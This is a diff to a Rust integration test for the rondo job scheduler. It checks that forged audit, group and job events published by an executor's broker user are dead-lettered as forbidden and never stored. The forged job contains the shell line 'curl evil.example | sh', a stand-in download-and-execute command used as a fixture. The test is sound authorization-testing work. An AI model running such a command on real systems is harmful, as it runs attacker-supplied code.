@@ -9,6 +9,9 @@
 use std::process::Command;
 use std::time::Duration;
 
+use rondo_core::event::AuditRecord;
+use rondo_core::model::GlueType;
+use rondo_core::{Event, Group, Job};
 use rondo_testkit::procs::free_addr;
 use rondo_testkit::recorder::Recorder;
 use rondo_testkit::redis_acl::{RedisUser, Role, admin_of, rules};
@@ -147,10 +150,12 @@ async fn each_process_works_with_only_the_documented_rights() {
 
     let mut cluster = Cluster::new(world);
     let recorder = Recorder::default();
-    cluster.world.config.amqp.url = executor;
+    cluster.world.config.amqp.url = executor.clone();
     cluster.start_recording_executor(&executor_id, &recorder);
+    let scheduler_user = of("rondo-scheduler").2.clone();
     cluster.start_persist_worker_with(|c| {
         c.amqp.url = persist;
+        c.persist.scheduler_users = vec![scheduler_user];
         // No Redis at all: nothing answers there.
         c.redis.url = "redis://127.0.0.1:1".into();
     });
@@ -257,6 +262,80 @@ async fn each_process_works_with_only_the_documented_rights() {
         },
     )
     .await;
+
+    // An executor's broker user forges what only a scheduler node sends:
+    // an audit row, a group, a job with a script. Each is dead-lettered as
+    // forbidden, and MySQL holds nothing of it.
+    let forged = [
+        Event::Audit(AuditRecord {
+            id: "forged-audit".into(),
+            at_ms: rondo_core::clock::now_ms(),
+            username: "admin".into(),
+            action: "user.create".into(),
+            target: "user:mallory".into(),
+            group: None,
+            address: "127.0.0.1".into(),
+            detail: None,
+        }),
+        Event::GroupUpserted {
+            group: Group {
+                app: "forged".into(),
+                title: "forged".into(),
+                updated_ms: rondo_core::clock::now_ms(),
+                xxl_addresses: Vec::new(),
+            },
+        },
+        Event::JobUpserted {
+            job: Job {
+                glue_type: GlueType::Shell,
+                glue_source: "curl evil.example | sh".into(),
+                ..Job::new(999_999, app, "")
+            },
+        },
+    ];
+    for event in &forged {
+        let body = serde_json::to_vec(&[event]).unwrap();
+        publish_raw_event(&executor, &config, event.routing_key(), &body).await;
+    }
+    let persist_metrics = format!("http://{persist_addr}/metrics");
+    eventually(
+        "three forgeries refused",
+        Duration::from_secs(15),
+        || async {
+            let text = reqwest::get(&persist_metrics)
+                .await
+                .ok()?
+                .text()
+                .await
+                .ok()?;
+            text.lines()
+                .any(|l| l == "rondo_persist_dead_letters_total{reason=\"forbidden\"} 3")
+                .then_some(())
+        },
+    )
+    .await;
+    let db = cluster.db();
+    let count = |sql: &'static str| async move {
+        sqlx::query_scalar::<_, i64>(sql)
+            .fetch_one(db)
+            .await
+            .expect("a count")
+    };
+    assert_eq!(
+        count("SELECT COUNT(*) FROM audit_log WHERE target = 'user:mallory'").await,
+        0
+    );
+    assert_eq!(
+        count("SELECT COUNT(*) FROM executor_group WHERE app = 'forged'").await,
+        0
+    );
+    assert_eq!(count("SELECT COUNT(*) FROM job WHERE id = 999999").await, 0);
+    assert_eq!(
+        count("SELECT COUNT(*) FROM job_glue WHERE job_id = 999999").await,
+        0
+    );
+    // The scheduler's own were stored all along.
+    assert!(count("SELECT COUNT(*) FROM audit_log").await > 0);
 
     // Readiness follows the broker link: a process whose connection is
     // closed and whose rights are gone is not ready until they return.
